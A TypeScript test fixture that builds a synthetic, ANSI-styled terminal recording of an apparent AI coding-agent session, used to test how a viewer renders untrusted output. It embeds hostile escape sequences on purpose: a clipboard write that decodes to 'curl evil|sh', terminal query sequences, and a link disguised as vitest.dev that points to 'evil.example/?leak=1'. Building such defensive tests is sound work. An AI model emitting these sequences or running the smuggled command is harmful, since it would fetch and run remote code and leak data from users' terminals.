import type { TerminalIndex } from '../../../src/shared/domain/terminal-index.ts'
import { indexOfLog } from '../../helpers/terminal-logs.ts'
import { encodeOutput, encodeResize } from '../../../src/shared/terminal-log.ts'

const ESC = '\u001b'
const rgb = (hex: string): string => {
  const n = Number.parseInt(hex, 16)
  return `${ESC}[38;2;${n >> 16};${(n >> 8) & 255};${n & 255}m`
}
const off = `${ESC}[0m`
const bold = `${ESC}[1m`
const dim = `${ESC}[2m`
const link = (label: string, target: string): string =>
  `${ESC}]8;;${target}\u0007${label}${ESC}]8;;\u0007`

/** What a program wrote: truecolor, box drawing, a link that lies, and things a viewer must ignore. */
export const LINES: readonly string[] = [
  `${ESC}]2;✳ Fix the login redirect\u0007`,
  `${ESC}]52;c;Y3VybCBldmlsfHNo\u0007`,
  `${ESC}[c${ESC}[6n${ESC}]11;?\u0007`,
  `${rgb('d97757')}╭──────────────────────────────────────────────────────────╮${off}`,
  `${rgb('d97757')}│${off} ${bold}✻ Welcome back, Ada${off}                                      ${rgb('d97757')}│${off}`,
  `${rgb('d97757')}│${off}   ${dim}/home/ada/src/lighthouse${off}                               ${rgb('d97757')}│${off}`,
  `${rgb('d97757')}╰──────────────────────────────────────────────────────────╯${off}`,
  '',
  `${bold}> ${off}the login page sends me back to / instead of the page I came from`,
  '',
  `${rgb('8ab4f8')}●${off} I’ll look for where the redirect is decided.`,
  '',
  `${rgb('81c995')}●${off} ${bold}Search${off}(pattern: "loginRedirect", path: "src")`,
  `  ${dim}⎿  Found 4 files${off}`,
  `     src/auth/redirect.ts`,
  `     src/auth/session.ts`,
  `     src/pages/login.tsx`,
  `     test/auth/redirect.test.ts`,
  '',
  `${rgb('81c995')}●${off} ${bold}Update${off}(src/auth/redirect.ts)`,
  `  ${dim}⎿  Updated with 3 additions and 1 removal${off}`,
  `     ${dim}18${off}    const target = new URL(request.url)`,
  `     ${ESC}[48;2;74;34;38m${dim}19${off}${ESC}[48;2;74;34;38m -  return redirect('/')                              ${off}`,
  `     ${ESC}[48;2;29;61;42m${dim}19${off}${ESC}[48;2;29;61;42m +  const from = target.searchParams.get('from')      ${off}`,
  `     ${ESC}[48;2;29;61;42m${dim}20${off}${ESC}[48;2;29;61;42m +  return redirect(isLocal(from) ? from : '/')       ${off}`,
  '',
  `${rgb('f28b82')}●${off} ${bold}Bash${off}(npm test -- --run auth)`,
  `  ${dim}⎿${off}  ${ESC}[31m FAIL ${off} test/auth/redirect.test.ts ${dim}> keeps the query${off}`,
  `     See ${link('https://vitest.dev/guide', 'https://evil.example/?leak=1')} or http://localhost:5173/report`,
  '',
  `${rgb('81c995')}●${off} ${bold}Bash${off}(npm install zod@4)`,
  `  ${dim}⎿  Waiting for the network…${off}`,
  '',
  `${rgb('d97757')}✻ Thinking…${off} ${dim}(38s · esc to interrupt)${off}`,
  '',
  `${dim}────────────────────────────────────────────────────────────────────${off}`,
  `> ${ESC}[7m ${off}`,
]

const encoder = new TextEncoder()

export const screenBytes = (): Uint8Array => encoder.encode(LINES.join('\r\n'))

/** The same as a recording: line by line over twelve minutes, with two long silences. */
export function terminalLog(): Uint8Array {
  const parts = [encodeResize(0, 100, 30)]
  LINES.forEach((line, index) => {
    // Three bursts with long silences between them.
    const burst = index < 14 ? 600 : index < 26 ? 64_000 - 14 * 900 : 620_000 - 26 * 900
    const atMs = burst + index * 900
    parts.push(encodeOutput(atMs, encoder.encode(`${line}\r\n`)))
  })
  const bytes = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0))
  let at = 0
  for (const part of parts) {
    bytes.set(part, at)
    at += part.length
  }
  return bytes
}

export const terminalIndex = (): TerminalIndex => indexOfLog(terminalLog())
